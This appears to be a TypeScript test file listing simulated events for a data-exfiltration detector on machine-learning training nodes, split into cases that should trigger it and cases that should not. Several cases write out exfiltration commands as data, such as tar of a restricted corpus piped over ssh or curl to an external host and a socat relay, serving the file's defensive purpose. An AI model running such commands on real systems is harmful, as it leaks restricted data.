/** Examples of STO-007: two lists, those that fire and those that stay quiet. */
import type { Example, ExampleEvent } from '../../../detect/detector.ts'
import type { Process } from '../../../proto/gen/events.ts'
import {
  accepted, closed, exec, opened, policy as zones, started,
} from '../../lateral-sample.ts'
import type { Link } from '../../lateral-sample.ts'

export const MIB = 1 << 20
export const policy = `${zones}
stores:
  - { name: corpus, kind: dataset, sensitivity: restricted, paths: [/srv/corpus] }
  - { name: weights, kind: weights, sensitivity: internal, paths: [/srv/weights] }
  - { name: samples, kind: dataset, sensitivity: public, paths: [/srv/samples] }
  - name: customers
    kind: database
    sensitivity: confidential
    endpoints: ["10.50.0.9:5432"]
`

const master = started(50, -60_000, '/usr/sbin/sshd', null)
const session = started(51, 10, '/usr/sbin/sshd', master)
const shell = started(52, 20, '/bin/bash', session, 1000)
const tar = started(53, 100, '/usr/bin/tar', shell, 1000)
const ssh = started(54, 101, '/usr/bin/ssh', shell, 1000)
const python = started(60, 100, '/usr/bin/python3', shell, 1000)
const other = started(71, 30, '/usr/sbin/sshd', master)
const otherShell = started(72, 40, '/bin/bash', other, 1001)
const upload = started(73, 120, '/usr/bin/curl', otherShell, 1001)
const away: Link = { from: '10.20.0.5', port: 41_000, to: '203.0.113.9', service: 22 }

/** So much was read of a store, within so many milliseconds up to the event. */
export function read(
  at_ms: number, node_id: string, process: Partial<Process>, store: string, bytes: number,
  over_ms = 0,
): ExampleEvent {
  return { kind: 'store_read', at_ms, node_id, process, values: {
    store, bytes, calls: bytes / 65_536, mechanism: 'read', path: `/srv/${store}/0001.tar`,
    duration_ns: over_ms * 1e6,
  } }
}

const shells = [
  exec(10, 'train-1', session, 'sshd', '-R'), exec(20, 'train-1', shell, 'bash'),
  exec(30, 'train-1', other, 'sshd', '-R'), exec(40, 'train-1', otherShell, 'bash'),
]
const pipe = [
  ...shells, exec(100, 'train-1', tar, 'tar', 'c', '/srv/corpus'),
  exec(101, 'train-1', ssh, 'ssh', '203.0.113.9', 'cat > corpus.tar'),
]
const sshOut = opened(150, 'train-1', ssh, away)
const curlOut = opened(150, 'train-1', upload, away)
const pythonOut = opened(150, 'train-1', python, away)

// A login from a relay, over which what is read goes back; and out from there.
const relayShell = started(80, -10_000, '/bin/sh', null, 990)
const puller = started(81, 5, '/usr/bin/ssh', relayShell, 990)
const sender = started(82, 6, '/usr/bin/curl', relayShell, 990)
const login: Link = { from: '10.30.0.7', port: 42_000, to: '10.20.0.5', service: 22 }
const drop: Link = { from: '10.30.0.7', port: 43_000, to: '203.0.113.9', service: 443 }
const pull = opened(8, 'inf-1', puller, login)
const pulled = accepted(9, 'train-1', master, login)
const dropped = opened(160, 'inf-1', sender, drop)
export const onReader = [
  pulled, ...pipe.slice(0, 5), read(140, 'train-1', tar, 'corpus', MIB),
  read(900, 'train-1', tar, 'corpus', 63 * MIB, 700), closed(pulled, 950, 64 * MIB, 4000),
]
export const onRelay = [
  exec(4, 'inf-1', relayShell, 'sh', '-c', 'ssh train-1 tar c /srv/corpus | curl -T - …'),
  exec(5, 'inf-1', puller, 'ssh', 'train-1', 'tar c /srv/corpus'),
  exec(6, 'inf-1', sender, 'curl', '-T', '-', 'https://203.0.113.9/'), pull, dropped,
  closed(pull, 951, 4000, 64 * MIB), closed(dropped, 960, 64 * MIB, 500),
]

// From one training node to the next one, which sends it out.
const toPeer: Link = { from: '10.20.0.5', port: 44_000, to: '10.20.0.6', service: 9999 }
const sentOn = opened(130, 'train-1', ssh, toPeer)
const listener = started(90, -5000, '/usr/bin/socat', null, 1000)
const heard = accepted(131, 'train-2', listener, toPeer)
const onward = opened(132, 'train-2', listener, { ...away, from: '10.20.0.6' })

// A training job: two ranks.
const job = { workload: 'job:4711', cgroup_path: '/slurm/job_4711' }
const rank = { ...started(300, -9000, '/usr/bin/python3', null, 1002), ...job }
const toRank: Link = { from: '10.20.0.5', port: 45_000, to: '10.20.0.6', service: 29_500 }
const toStore: Link = { from: '10.20.0.5', port: 45_001, to: '10.50.0.9', service: 9000 }
const gradients = opened(200, 'train-1', rank, toRank)
const checkpoints = opened(201, 'train-1', rank, toStore)
const logs = opened(202, 'train-1', rank, away)

const server = started(100, -60_000, '/usr/bin/python3', null, 990)
const answer = accepted(150, 'inf-1', server,
  { from: '203.0.113.9', port: 50_000, to: '10.30.0.7', service: 8000 })

const query = opened(110, 'train-1', python, { ...toStore, service: 5432 })

const fires: Example[] = [
  { name: 'tar into ssh, both of one shell, as much as was read', policy, events: [
    ...pipe, read(140, 'train-1', tar, 'corpus', MIB), sshOut,
    read(900, 'train-1', tar, 'corpus', 63 * MIB, 700), closed(sshOut, 950, 64 * MIB, 4000)],
    fires: ['/usr/bin/tar (pid 53, uid 1000 on train-1) read 64.0 MiB of store corpus; then '
      + '64.0 MiB, 100% of what it had in hand, went to 203.0.113.9:22/tcp in zone external. No '
      + 'flow of the policy allows it.'] },
  { name: 'packed before it is sent, to a database of another zone', policy, events: [
    ...shells, exec(100, 'train-1', python, 'python3', 'copy.py'),
    read(140, 'train-1', python, 'weights', 64 * MIB),
    opened(150, 'train-1', python, { ...away, to: '10.40.0.9', service: 5432 }),
    closed(opened(150, 'train-1', python, { ...away, to: '10.40.0.9', service: 5432 }), 900,
      20 * MIB, 0)],
    fires: ['20.0 MiB, 31% of what it had in hand, went to 10.40.0.9:5432/tcp in zone orch'] },
  { name: 'one process whose reads are summed up after the connection has ended', policy, events: [
    ...shells, exec(100, 'train-1', python, 'python3', 'copy.py'),
    read(140, 'train-1', python, 'corpus', 65_536), pythonOut, closed(pythonOut, 900, 64 * MIB, 0),
    read(1000, 'train-1', python, 'corpus', 64 * MIB, 800)], fires: ['100% of what it had'] },
  { name: 'a connection that goes on, and carries more and more', policy, events: [
    ...pipe, read(140, 'train-1', tar, 'corpus', 64 * MIB), sshOut,
    closed(sshOut, 300, 4 * MIB, 0, 'connection_totals'),
    closed(sshOut, 400, 32 * MIB, 0, 'connection_totals'),
    closed(sshOut, 500, 60 * MIB, 0, 'connection_totals')], fires: ['60.0 MiB, 94% of what it'] },
  { name: 'pulled by a relay, and out from there: the two findings of one incident', policy,
    events: [...onReader, ...onRelay],
    fires: ['/usr/bin/tar (pid 53, uid 1000 on train-1) read 64.0 MiB of store corpus; then '
      + '64.0 MiB, 100% of what it had in hand, went to 10.30.0.7:42000/tcp in zone inference.',
    'went to 203.0.113.9:443/tcp in zone external, over /usr/bin/ssh (pid 81'] },
  { name: 'the same when the relay reports first', policy, events: [...onRelay, ...onReader],
    fires: ['in zone inference', 'zone external, over /usr/bin/ssh (pid 81'] },
  { name: 'within its zone to a peer, which sends it out', policy, events: [
    ...pipe, read(140, 'train-1', tar, 'corpus', 64 * MIB), sentOn, heard, onward,
    closed(heard, 901, 0, 64 * MIB), closed(sentOn, 900, 64 * MIB, 0),
    closed(onward, 910, 63 * MIB, 0)],
    fires: ['went to 203.0.113.9:22/tcp in zone external, over /usr/bin/socat (pid 90'] },
  { name: 'many short connections, counted together', policy, events: [
    ...shells, exec(100, 'train-1', python, 'python3', 'copy.py'),
    read(140, 'train-1', python, 'corpus', 64 * MIB),
    { kind: 'connection_repeat', at_ms: 5000, node_id: 'train-1', process: python, values: {
      local_addr: '10.20.0.5', remote_addr: '203.0.113.9', remote_port: 443, protocol: 'tcp',
      direction: 'outgoing', opened: 500, closed: 500, bytes_sent: 50 * MIB,
    } }], fires: ['50.0 MiB, 78% of what it had in hand, went to 203.0.113.9:443/tcp'] },
  { name: 'rows of a database', policy, events: [
    ...shells, exec(100, 'train-1', python, 'python3', 'dump.py'), query,
    closed(query, 140, 900, 40 * MIB), pythonOut, closed(pythonOut, 900, 30 * MIB, 0)],
    fires: ['read 40.0 MiB of store customers; then 30.0 MiB, 75% of what it had in hand'] },
]

const quiet: Example[] = [
  { name: 'a training job sends gradients to its peers and checkpoints where it may', policy,
    events: [read(100, 'train-1', rank, 'corpus', 1024 * MIB), gradients, checkpoints,
      closed(gradients, 5000, 4096 * MIB, 4096 * MIB), closed(checkpoints, 5001, 512 * MIB, 900)],
    fires: [] },
  { name: 'the job that reads a lot tells a service outside how it goes', policy, events: [
    read(100, 'train-1', rank, 'corpus', 1024 * MIB), logs, closed(logs, 5000, 20 * MIB, 900)],
    fires: [] },
  { name: 'weights are loaded, and answers go to users', policy, events: [
    read(100, 'inf-1', server, 'weights', 900 * MIB), answer,
    closed(answer, 9000, 300 * MIB, MIB)], fires: [] },
  { name: 'packed on the node, and nothing is sent but a few words', policy, events: [
    ...pipe, read(140, 'train-1', tar, 'corpus', 64 * MIB), sshOut, closed(sshOut, 950, 70_000, 0)],
    fires: [] },
  { name: 'another one of those who are logged in sends something', policy, events: [
    ...pipe, read(140, 'train-1', tar, 'corpus', 64 * MIB),
    exec(145, 'train-1', upload, 'curl', '-T', 'paper.pdf', 'https://203.0.113.9/'),
    curlOut, closed(curlOut, 950, 64 * MIB, 0)], fires: [] },
  { name: 'it was sent before anything was read', policy, events: [
    ...pipe, sshOut, closed(sshOut, 900, 64 * MIB, 0),
    read(5000, 'train-1', tar, 'corpus', 64 * MIB)], fires: [] },
  { name: 'of a store that is public', policy, events: [
    ...pipe, read(140, 'train-1', tar, 'samples', 64 * MIB), sshOut,
    closed(sshOut, 950, 64 * MIB, 0)], fires: [] },
]

export const leavingExamples = [fires, quiet] as const
